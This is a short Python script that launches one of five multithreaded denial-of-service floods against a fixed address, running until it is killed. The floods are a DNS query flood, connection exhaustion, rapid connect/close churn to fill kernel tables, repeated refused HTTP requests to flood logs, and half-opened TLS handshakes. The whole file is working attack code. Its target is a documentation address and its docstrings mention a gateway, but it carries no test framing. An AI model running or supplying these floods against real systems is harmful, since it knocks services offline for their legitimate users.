"""Floods of one kind, as a program that goes on until it is killed; usage: floods.py KIND."""

import itertools
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

ANYWHERE = "192.0.2.1"
QUERY = b"\0\1\1\0\0\1\0\0\0\0\0\0\7%07d\4test\0\0\1\0\1"
REFUSED = b"GET / HTTP/1.1\r\nHost: not-listed.test\r\n\r\n"
THREADS = 8


def names() -> None:
    """Ask for names, each from a port of its own."""
    for number in itertools.count():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking, suppress(OSError):
            asking.sendto(QUERY % (number % 10**7), (ANYWHERE, 53))


def held() -> None:
    """Open connections and keep as many as the kernel allows."""
    kept: list[socket.socket] = []
    for port in itertools.cycle((80, 443, 53, 8000)):
        try:
            kept.append(socket.create_connection((ANYWHERE, port), 1))
        except OSError:
            time.sleep(0.001)


def short() -> None:
    """Open connections and end them at once: each stays in the kernel's tables for a while."""
    while True:
        with suppress(OSError):
            socket.create_connection((ANYWHERE, 80), 1).close()


def refusals() -> None:
    """Have requests refused, and each refusal logged."""
    while True:
        with suppress(OSError), socket.create_connection((ANYWHERE, 80), 5) as dialled:
            while True:
                dialled.sendall(REFUSED * 20)
                dialled.recv(65536)


def handshakes() -> None:
    """Have the gateway begin to speak TLS."""
    while True:
        with suppress(OSError), socket.create_connection((ANYWHERE, 443), 1) as dialled:
            dialled.sendall(b"\x16\x03\x01\x02\x00" + bytes(512))
            dialled.recv(4096)


FLOODS: dict[str, Callable[[], None]] = {
    flood.__name__: flood for flood in (names, held, short, refusals, handshakes)
}

if __name__ == "__main__":
    for _ in range(THREADS):
        threading.Thread(target=FLOODS[sys.argv[1]]).start()
